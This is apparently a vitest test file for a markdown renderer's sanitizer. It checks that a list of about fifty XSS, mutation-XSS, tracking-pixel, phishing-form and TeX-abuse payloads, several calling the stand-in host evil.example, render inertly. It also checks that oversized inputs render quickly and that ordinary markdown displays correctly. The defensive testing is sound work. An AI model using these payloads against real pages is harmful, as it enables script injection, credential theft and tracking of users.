import { beforeAll, describe, expect, it } from "vitest";
import { isDrawable, prepare, renderMarkdown } from "./markdown";
import { sanitize } from "./sanitize";

function html(text: string): string {
  const box = document.createElement("div");
  box.append(renderMarkdown(text));
  return box.innerHTML;
}

function box(fragment: DocumentFragment): HTMLDivElement {
  const element = document.createElement("div");
  element.append(fragment);
  return element;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/pixel.gif?who=labeler'>",
  "![pixel](https://evil.example/pixel.gif)",
  "![x](javascript:alert(1))",
  '![x](https://evil.example/a.png "onload=alert(1)")',
  "![ref][1]\n\n[1]: https://evil.example/ref.png",
  "[go](javascript:alert(1))",
  "[go](JaVaScRiPt:alert(1))",
  "[go](&#106;avascript:alert(1))",
  "[go](java\tscript:alert(1))",
  "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[go](vbscript:msgbox(1))",
  "[go](//evil.example/without-a-scheme)",
  "[out](/admin/)",
  '[go](https://ok.example/"onmouseover="alert(1))',
  "<a href='javascript:alert(1)'>x</a>",
  "<iframe src='https://evil.example'></iframe>",
  "<object data='https://evil.example/x.swf'></object>",
  "<embed src='https://evil.example/x.swf'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
  "<div class='button primary' id='main'>press me</div>",
  "<form action='https://evil.example'><input name=password><button>go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "- [x] <input type=image src=https://evil.example/x>",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><use href='https://evil.example/x.svg#a'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><img src=x onerror=alert(1)></template>",
  "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4 autoplay></video>",
  "<audio src=https://evil.example/a.mp3 autoplay></audio>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<dialog open>Your session ended. Sign in</dialog>",
  "<details open ontoggle=alert(1)>x</details>",
  "<body onload=alert(1)>",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$\\htmlClass{button}{x}$ $\\htmlStyle{color:red}{x}$ $\\htmlId{main}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$\\def\\a{\\a\\a}\\a$",
  "$</math><img src=x onerror=alert(1)>$",
];

beforeAll(() => prepare(["$x$", "```html\n```", "```python\n```"]));

describe("hostile text", () => {
  it.each(HOSTILE)("does nothing: %s", (text) => {
    const shown = box(renderMarkdown(text));
    const forbidden =
      "script, style, link, meta, base, img, image, picture, source, video, audio, track, iframe, " +
      "object, embed, form, input, button, select, textarea, svg, use, dialog, details, template, " +
      "noscript, animate, mglyph, annotation-xml, body";
    expect(shown.querySelector(forbidden)).toBeNull();
    for (const element of shown.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^id$|^name$|src|^background$|^poster$|^title$|:/);
        expect(value).not.toMatch(/javascript|vbscript|data:/i);
        if (name === "class") expect(value).toMatch(/^(hljs-|function_|class_|inherited__)/);
      }
      if (element.tagName === "A" && element.hasAttribute("href")) {
        expect(element.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
        expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      }
    }
  });

  it("cannot take down the page by nesting", () => {
    const deep = `${">".repeat(20_000)} x`;
    expect(box(renderMarkdown(deep)).textContent).toContain("x");
  });

  it.each([
    [
      "a table that few characters make huge",
      `|${"a|".repeat(200)}\n|${"-|".repeat(200)}\n${"|a\n".repeat(6_000)}`,
    ],
    ["thousands of formulas", "$x^2$ ".repeat(5_000)],
    ["displays that never end", "$$a\n".repeat(12_000)],
    ["nested quotes", `${">".repeat(40_000)} x`],
    ["more than anybody reads", "word ".repeat(20_000)],
  ])("shows %s as written, soon", (_, text) => {
    const began = performance.now();
    const shown = box(renderMarkdown(text));
    expect(performance.now() - began).toBeLessThan(3_000);
    expect(shown.querySelector("table, math, blockquote")).toBeNull();
    expect(shown.textContent).toBe(text);
    expect(isDrawable(text)).toBe(false);
  });

  it("keeps the second wall up alone", () => {
    const shown = box(
      sanitize(
        '<p style="color:red" id="main" class="button hljs-keyword" onclick="x()" data-x="1">a</p>' +
          '<a href="javascript:x()">b</a><img src=x><form><input></form><script>x()</script>',
      ),
    );
    expect(shown.innerHTML).toBe(
      '<p class="hljs-keyword">a</p><a rel="noopener noreferrer nofollow" target="_blank">b</a>',
    );
  });
});

describe("what is shown", () => {
  it("shows HTML as the text that was written", () => {
    expect(box(renderMarkdown("a <b>bold</b> claim")).textContent?.trim()).toBe(
      "a <b>bold</b> claim",
    );
  });

  it("replaces an image by its words", () => {
    expect(html("![a red fox](https://x.example/fox.png)")).toContain("[image: a red fox]");
  });

  it("keeps single line breaks, as verses need them", () => {
    expect(html("one\ntwo")).toContain("one<br>two");
  });

  it("joins single line breaks in a document", () => {
    const shown = box(renderMarkdown("one\ntwo", "document"));
    expect(shown.querySelector("br")).toBeNull();
  });

  it("puts headings below those of the page", () => {
    expect(html("# Title")).toContain("<h3>Title</h3>");
  });

  it("draws a table with its alignment", () => {
    const shown = html("| a | b |\n|:--|--:|\n| 1 | 2 |");
    expect(shown).toContain("<table>");
    expect(shown).toContain('align="right"');
  });

  it("draws TeX as MathML, once", () => {
    const shown = box(renderMarkdown("Euler: $e^{i\\pi} = -1$"));
    expect(shown.querySelector("math")).not.toBeNull();
    expect(shown.textContent).not.toContain("\\pi");
  });

  it.each(["\\(x^2\\)", "\\[x^2\\]", "$$x^2$$", "$$\nx^2\n$$"])("draws %s", (text) => {
    expect(box(renderMarkdown(text)).querySelector("math")).not.toBeNull();
  });

  it.each(["$5 and $6", "costs $5-$10 a day", "$ 5 $", "\\$x\\$"])("leaves %s alone", (text) => {
    expect(box(renderMarkdown(text)).querySelector("math")).toBeNull();
  });

  it("leaves dollars in code alone", () => {
    expect(box(renderMarkdown("`$x$`")).textContent?.trim()).toBe("$x$");
  });

  it("shows TeX that cannot be drawn as written", () => {
    expect(box(renderMarkdown("$\\frac{1}{$")).textContent).toContain("\\frac{1}{");
  });

  it("colours code of a known language and leaves the rest as it is", () => {
    expect(html("```python\ndef f(): pass\n```")).toContain('class="hljs-keyword"');
    expect(html("```brainfold\ndef f(): pass\n```")).not.toContain("hljs");
  });

  it("shows task lists without form controls", () => {
    expect(box(renderMarkdown("- [x] done\n- [ ] open")).textContent).toMatch(/☑ done\s*☐ open/);
  });
});
